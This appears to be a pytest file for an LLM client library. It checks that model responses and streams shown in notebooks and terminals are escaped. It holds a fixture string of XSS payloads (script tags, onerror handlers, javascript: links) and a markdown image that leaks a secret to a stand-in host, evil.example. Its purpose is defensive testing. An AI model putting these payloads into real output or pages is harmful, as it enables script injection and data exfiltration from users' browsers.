"""How notebooks and terminals show responses and streams, with a fake of IPython's display."""

from __future__ import annotations

import asyncio
import io
import sys
import types
from html.parser import HTMLParser
from typing import Any

import pytest
import rich.console
from pydantic import BaseModel, field_serializer

from mirascope_like.core import BadRequestError, ConfigurationError, ResponseParseError, StreamInterruptedError, openai
from mirascope_like.core.base.response import Shown
from mirascope_like.core.base.runtime import CLOCK
from mirascope_like.testing import answer, fake, tool
from tests.conformance.capabilities import both_ways, every_row
from tests.conformance.contract import BaseRow
from tests.conformance.reading import asked
from tests.conformance.wires.answer import Answer, Call, Text
from tests.harness.clocks import MovedClock
from tests.harness.rounds import Side
from tests.harness.server import CloseEarly, Reply, Server

HOSTILE = """# Title
<script>alert(1)</script> <img src=x onerror=alert(2)> &lt;b&gt;
![pixel](https://evil.example/log?q=secret) [click](javascript:alert(3)) [ref][1] <javascript:alert(4)>

[1]: javascript:alert(5)

```html"><img src=y onerror=alert(6)>
<b>code</b>
```
`` ` <i> ` ``
    ```
"""


def get_weather(city: str) -> str:
    """Get the weather of a city."""
    return f"sunny in {city}"


class Tags(HTMLParser):
    """The tags and attributes of HTML, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


# Responses


@every_row
def test_every_response_is_shown(row: BaseRow, server: Server) -> None:
    call = Call("call_1", "get_weather", '{"city": "<b>Oslo"}')
    server.reply(row.wire.answered(Answer("*Hello* <b>", call, input=1234, output=50)))
    response = asked(row, server, False, tools=[get_weather])
    shown = Tags(response._repr_html_())
    for text in ("*Hello* <b>", "get_weather", '"city": "<b>Oslo"', row.name, "1,234 in, 50 out tokens"):
        assert text in shown.text, text
    assert shown.tags <= {"div", "pre", "code"}
    assert shown.attributes == {"style"}
    markdown = response._repr_markdown_()
    assert markdown.startswith("*Hello* &lt;b>")
    assert 'Tool `get_weather`\n\n```json\n{\n  "city": "<b>Oslo"\n}\n```' in markdown
    assert f"_{row.name} " in markdown


def test_cost_thinking_and_errors() -> None:
    shown = Shown("Hi", "I think <so>.", [("f", "{}")], "openai m · 1 in", "Broken: <x>")
    html = Tags(shown.html())
    assert html.text == "ThinkingI think <so>.HiTool f{}Broken: <x>openai m · 1 in"
    assert html.tags == {"div", "details", "summary", "pre", "code"}
    assert shown.markdown() == (
        "> I think &lt;so>.\n\nHi\n\nTool `f`\n\n```json\n{}\n```\n\n_Broken: &lt;x>_\n\n_openai m · 1 in_"
    )
    assert Shown("").html() == "<div></div>"
    assert Shown("").markdown() == ""


def test_what_a_model_writes_is_not_html() -> None:
    shown = Tags(Shown(HOSTILE, HOSTILE, [(HOSTILE, HOSTILE)], HOSTILE, HOSTILE).html())
    assert shown.tags <= {"div", "details", "summary", "pre", "code"}
    assert shown.attributes == {"style"}
    for text in ("<script>alert(1)</script>", "&lt;b&gt;", "![pixel](https://evil.example/log?q=secret)"):
        assert text in shown.text


def test_what_a_model_writes_in_markdown_is_harmless() -> None:
    """Rendered by a parser that lets HTML, links and images pass, nothing of the text becomes one."""
    markdown_it = pytest.importorskip("markdown_it", reason="needs markdown-it-py, which rich installs")
    for text in (HOSTILE, HOSTILE.replace("\n", "\r\n"), f"```\n{HOSTILE}", f"~~~\n{HOSTILE}\n````\n~~~\n{HOSTILE}"):
        markdown = Shown(text, text, [(text, text)], text, text).markdown()
        parser = markdown_it.MarkdownIt("commonmark", {"html": True})
        parser.validateLink = lambda _: True
        rendered = Tags(parser.render(markdown))
        assert rendered.tags <= {"p", "h1", "pre", "code", "blockquote", "em", "strong", "ul", "ol", "li", "hr", "br"}
        assert rendered.attributes <= {"class", "start"}
        assert "<script>alert(1)</script>" in rendered.text


def test_markdown_of_the_model_is_kept() -> None:
    text = "# Title\n\n- **one** & two\n\n```python\nif a < b:\n    print('&')\n```\n\nEnd"
    assert Shown(text).markdown() == (
        "# Title\n\n- **one** &amp; two\n\n\n```python\nif a < b:\n    print('&')\n```\n\n\nEnd"
    )


# Streams


class Handle:
    """A fake of IPython's `DisplayHandle`."""

    def __init__(self) -> None:
        self.shown: list[dict[str, str]] = []

    def update(self, bundle: dict[str, str], *, raw: bool) -> None:
        assert raw
        self.shown.append(bundle)


@pytest.fixture
def handles(monkeypatch: pytest.MonkeyPatch) -> list[Handle]:
    """The outputs that were made."""
    made: list[Handle] = []

    def display(bundle: dict[str, str], *, raw: bool, display_id: bool) -> Handle:
        assert raw
        assert display_id
        made.append(Handle())
        return made[-1]

    module = types.ModuleType("IPython.display")
    module.display = display  # type: ignore[attr-defined]
    ipython = types.ModuleType("IPython")
    ipython.get_ipython = object  # type: ignore[attr-defined]  # the shell of a kernel
    monkeypatch.setitem(sys.modules, "IPython", ipython)
    monkeypatch.setitem(sys.modules, "IPython.display", module)
    return made


def read(row: BaseRow, server: Server, asynchronous: bool, every_text: Any = None) -> Any:
    if not asynchronous:
        with row.client(server) as client:
            return row.stream(client).on(text=every_text).display()

    async def main() -> Any:
        async with row.aclient(server) as client:
            return await row.astream(client).on(text=every_text).display()

    return asyncio.run(main())


@every_row
@both_ways
def test_a_stream_is_shown_as_it_arrives(
    row: BaseRow, asynchronous: bool, server: Server, handles: list[Handle], clock: MovedClock
) -> None:
    server.reply(row.wire.streamed(Answer(Text("One ", "two ", "<three>"), input=30, output=50)))
    response = read(row, server, asynchronous, every_text=lambda _: clock.skip(0.06))
    assert response.content == "One two <three>"
    (handle,) = handles
    texts = [bundle["text/plain"] for bundle in handle.shown]
    assert [text for text in dict.fromkeys(texts) if text] == ["One ", "One two ", "One two <three>"]
    last = handle.shown[-1]
    assert "30 in, 50 out tokens" in last["text/html"]
    assert "&lt;three&gt;" in last["text/html"]
    assert last["text/markdown"].startswith("One two &lt;three>")


@pytest.fixture
def still(monkeypatch: pytest.MonkeyPatch) -> None:
    """A clock that stands still."""
    monkeypatch.setattr(CLOCK, "monotonic", lambda: 0.0)


def test_updates_have_a_distance(side: Side, server: Server, handles: list[Handle], still: None) -> None:
    server.reply(side.streamed("one two three four five"))
    stream = side.module.model("m", client=side.client(server)).stream("Hi")
    assert stream.display().content == "one two three four five"
    assert len(handles[0].shown) == 2  # the first, and the end


@both_ways
def test_a_stream_that_breaks_shows_what_came(
    side: Side, asynchronous: bool, server: Server, handles: list[Handle]
) -> None:
    whole = side.streamed("Hello you there").by_event()
    server.reply(whole.insert(4, CloseEarly()))

    async def main() -> None:
        async with side.aclient(server) as client:
            await side.module.model("m", client=client).stream_async("Hi").display()

    with pytest.raises(StreamInterruptedError):  # noqa: PT012  # one stream, sync or async
        if asynchronous:
            asyncio.run(main())
        else:
            side.module.model("m", client=side.client(server)).stream("Hi").display()
    last = handles[0].shown[-1]
    assert "Hello" in last["text/plain"]
    assert "the response is incomplete" in last["text/html"] or "closed" in last["text/html"]


def test_an_error_before_the_first_event_is_shown(side: Side, server: Server, handles: list[Handle]) -> None:
    server.reply(Reply.error(400, "no <such> model"))
    with pytest.raises(BadRequestError):
        side.module.model("m", client=side.client(server)).stream("Hi").display()
    assert "no &lt;such&gt; model" in handles[0].shown[-1]["text/html"]


# Structured streams


class Book(BaseModel):
    title: str
    pages: int


class Loud(BaseModel):
    title: str

    @field_serializer("title")
    def upper(self, title: str) -> str:
        return title.upper()  # the title of a partial value is None


def shown_value(kind: Any, asynchronous: bool) -> Any:
    @openai.call("m", response_model=kind, stream=True)
    def whole() -> str:
        return "Hi"

    @openai.call("m", response_model=kind, stream=True)
    async def awhole() -> str:
        return "Hi"

    async def main() -> Any:
        return await awhole().display()

    return asyncio.run(main()) if asynchronous else whole().display()


@pytest.fixture
def openai_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "k")


@pytest.fixture
def every_update(monkeypatch: pytest.MonkeyPatch) -> None:
    """Time for an update between any two pieces."""
    monkeypatch.setattr("mirascope_like.core.base.streams.live_display.INTERVAL", 0)


@both_ways
def test_a_value_is_shown_as_it_arrives(
    asynchronous: bool, handles: list[Handle], openai_key: None, every_update: None
) -> None:
    with fake(tool("Book", '{"title": "<i>', 'Dune"', ', "pages": 412}')):
        value = shown_value(Book, asynchronous)
    assert value == Book(title="<i>Dune", pages=412)
    (handle,) = handles
    texts = list(dict.fromkeys(bundle["text/plain"] for bundle in handle.shown))
    assert texts == [
        '{\n  "title": "<i>",\n  "pages": null\n}',
        '{\n  "title": "<i>Dune",\n  "pages": null\n}',
        '{\n  "title": "<i>Dune",\n  "pages": 412\n}',
    ]
    html = Tags(handle.shown[-1]["text/html"])
    assert html.tags == {"div", "pre", "code"}
    assert html.text.startswith('{\n  "title": "<i>Dune",\n  "pages": 412\n}openai ')  # once, and then the usage
    assert " tokens" in html.text
    assert handle.shown[-1]["text/markdown"].startswith('```json\n{\n  "title": "<i>Dune"')


@both_ways
@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [(str, "Hi", "Hi"), (list[int], [1, 2], "[\n  1,\n  2\n]"), (Loud, {"title": "a"}, None)],
)
def test_other_values_are_shown(
    kind: Any, value: Any, shown: str | None, asynchronous: bool, handles: list[Handle], openai_key: None
) -> None:
    with fake(answer(value)):
        shown_value(kind, asynchronous)
    assert handles[0].shown[-1]["text/plain"] == (shown or '{\n  "title": "A"\n}')


@both_ways
def test_a_value_that_does_not_validate_is_shown_with_the_error(
    asynchronous: bool, handles: list[Handle], openai_key: None
) -> None:
    with fake(answer({"title": "Dune", "pages": "many"})), pytest.raises(ResponseParseError):
        shown_value(Book, asynchronous)
    last = Tags(handles[0].shown[-1]["text/html"]).text
    assert '"pages": "many"' in last  # what the model wrote
    assert "ResponseValidationError: 1 validation error for Book" in last


# Terminals


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """What is written to a terminal of 8 lines."""
    written = io.StringIO()
    console = rich.console.Console(file=written, force_terminal=True, width=40, height=8, legacy_windows=False)
    monkeypatch.setattr(rich.console, "Console", lambda: console)
    return written


@both_ways
def test_a_terminal_shows_the_last_lines_and_then_all(
    side: Side, asynchronous: bool, server: Server, terminal: io.StringIO, every_update: None
) -> None:
    server.reply(side.streamed("\n".join(f"line {number}" for number in range(20)) + "\n\x1b[2J"))

    async def main() -> Any:
        async with side.aclient(server) as client:
            return await side.module.model("m", client=client).stream_async("Hi").display()

    if asynchronous:
        asyncio.run(main())
    else:
        side.module.model("m", client=side.client(server)).stream("Hi").display()
    written = terminal.getvalue()
    assert "line 19\n\\x1b[2J" in written  # what a model writes does not clear the screen
    assert "\x1b[2J" not in written
    before, _, last = written.rpartition("line 0\n")
    assert "line 12" in before
    assert "tokens" in last


@both_ways
def test_a_terminal_shows_a_value(
    asynchronous: bool, terminal: io.StringIO, openai_key: None, every_update: None
) -> None:
    with fake(answer({"title": "Dune", "pages": 412})):
        assert shown_value(Book, asynchronous) == Book(title="Dune", pages=412)
    assert '{\n  "title": "Dune",\n  "pages": 412\n}\n\nopenai' in terminal.getvalue()


def test_output_that_is_no_terminal_has_the_response_once(
    side: Side, server: Server, capsys: pytest.CaptureFixture[str], every_update: None
) -> None:
    server.reply(side.streamed("one two three"))
    side.module.model("m", client=side.client(server)).stream("Hi").display()
    assert capsys.readouterr().out.startswith("one two three\n\n")


def test_a_terminal_without_rich(side: Side, server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "rich.console", None)
    stream = side.module.model("m", client=side.client(server)).stream("Hi")
    with pytest.raises(ConfigurationError, match=r"display\(\) needs a notebook, or the package rich in a terminal"):
        stream.display()
    assert not server.requests
